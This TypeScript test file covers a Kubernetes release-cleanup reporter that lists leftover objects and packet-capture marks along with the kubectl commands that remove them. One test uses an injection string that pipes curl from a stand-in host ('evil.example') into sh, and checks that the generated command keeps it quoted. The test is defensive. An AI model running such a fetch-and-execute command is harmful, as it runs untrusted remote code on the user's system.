import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import type { Kubectl } from '../../../../src/kubernetes/kubectl.ts';
import { findLeftovers, type Search } from '../../../../src/release/report/leftovers.ts';

const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'capture-certs', namespace: 'tools' } };
const kept = {
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'kept', namespace: 'tools', annotations: { 'helm.sh/resource-policy': 'keep' } },
};
const keys = { namespaceLabel: 'l', annotation: 'a/b' };
const record: Search['record'] = {
  keys,
  objects: [
    { kind: 'Namespace', namespace: '', name: 'shop' },
    { kind: 'Deployment', namespace: 'shop', name: 'web' },
    { kind: 'Deployment', namespace: 'shop', name: 'gone' },
  ],
};

/** A cluster that holds these, by what kubectl is asked for. */
function cluster(
  marks: string,
  answers: readonly object[][],
): { readonly kubectl: Kubectl; readonly asked: () => number } {
  let round = 0;
  const kubectl: Kubectl = async (args, call) => {
    const text = args.join(' ');
    const named = text.startsWith('get namespace shop') || text.startsWith('get deployment web');
    if (named)
      return {
        stdout: JSON.stringify({ metadata: { annotations: { 'packet-capture/opted-in-by': marks } } }),
        stderr: '',
      };
    if (!text.startsWith('get -f -')) return { stdout: '', stderr: '' };
    expect(call?.input).not.toContain('"kept"');
    const items = answers[Math.min(round, answers.length - 1)] ?? [];
    round += 1;
    return { stdout: items.length === 0 ? '' : JSON.stringify({ items }), stderr: '' };
  };
  return { kubectl, asked: () => round };
}

const search = (kubectl: Kubectl): Search => ({
  kubectl,
  release: 'capture',
  namespace: 'tools',
  objects: [secret, kept],
  record,
  signal: new AbortController().signal,
  patienceSeconds: 0,
});

const objectLine = {
  object: 'secret/capture-certs in tools',
  line: 'kubectl delete secret/capture-certs --namespace tools',
};
const undo = (place: string, patch: object): string =>
  `kubectl patch ${place} --type merge --patch '${JSON.stringify(patch)}'`;

test('remaining objects are reported with the command that removes them', async () => {
  const { kubectl } = cluster('{"tools/capture":"l"}', [[secret]]);
  const annotations = { 'packet-capture/opted-in-by': null };
  expect(await findLeftovers(search(kubectl))).toEqual([
    objectLine,
    {
      object: 'mark on namespace/shop',
      line: undo('namespace/shop', { metadata: { annotations, labels: { l: null } } }),
    },
    {
      object: 'mark on deployment/web in shop',
      line: undo('deployment/web --namespace shop', {
        metadata: { annotations },
        spec: { template: { metadata: { annotations: { l: null } } } },
      }),
    },
  ]);
});

test('a key that another release has set too stays, and so does its mark', async () => {
  const { kubectl } = cluster('{"tools/capture":"l","other/capture":"l"}', [[]]);
  const metadata = { annotations: { 'packet-capture/opted-in-by': '{"other/capture":"l"}' } };
  expect((await findLeftovers(search(kubectl))).map(({ line }) => line)).toEqual([
    undo('namespace/shop', { metadata }),
    undo('deployment/web --namespace shop', { metadata }),
  ]);
});

test('the text of a mark stays one word of the command', async () => {
  const evil = `x'; curl evil.example|sh; '`;
  const { kubectl } = cluster(JSON.stringify({ 'tools/capture': evil, [evil]: 'y' }), [[]]);
  const [{ line } = { line: '' }] = await findLeftovers(search(kubectl));
  const words = execFileSync('sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' }).split('\0');
  expect(words.slice(0, 6)).toEqual(['kubectl', 'patch', 'namespace/shop', '--type', 'merge', '--patch']);
  expect(JSON.parse(words[6] ?? '')).toEqual({
    metadata: {
      annotations: { 'packet-capture/opted-in-by': JSON.stringify({ [evil]: 'y' }) },
      labels: { [evil]: null },
    },
  });
  expect(words.slice(7)).toEqual(['']);
});

test('marks of other releases are not reported, and controllers get time to delete objects', async () => {
  const { kubectl, asked } = cluster('{"other/capture":"l"}', [[secret], []]);
  expect(await findLeftovers({ ...search(kubectl), patienceSeconds: 10 })).toEqual([]);
  expect(asked()).toBe(2);
});

test('kubectl is called for each namespace, because it ignores objects of other namespaces without a message', async () => {
  const asked: string[] = [];
  const kubectl: Kubectl = async (args, call) => {
    const { items = [] } = JSON.parse(call?.input ?? '{}') as {
      readonly items?: readonly { readonly metadata: { readonly name: string; readonly namespace?: string } }[];
    };
    if (args[2] === '-')
      asked.push(
        `${args.find((arg) => arg.startsWith('--namespace=')) ?? 'none'}: ${items.map(({ metadata }) => `${metadata.namespace ?? ''}/${metadata.name}`).join(' ')}`,
      );
    return { stdout: '', stderr: '' };
  };
  const role = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'Role',
    metadata: { name: 'hook', namespace: 'shop' },
  };
  const clusterWide = { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'wide' } };
  await findLeftovers({
    ...search(kubectl),
    objects: [secret, role, clusterWide, { ...role, metadata: { ...role.metadata, name: 'other' } }],
  });
  expect(asked.toSorted()).toEqual([
    '--namespace=shop: shop/hook shop/other',
    '--namespace=tools: tools/capture-certs',
    'none: /wide',
  ]);
});
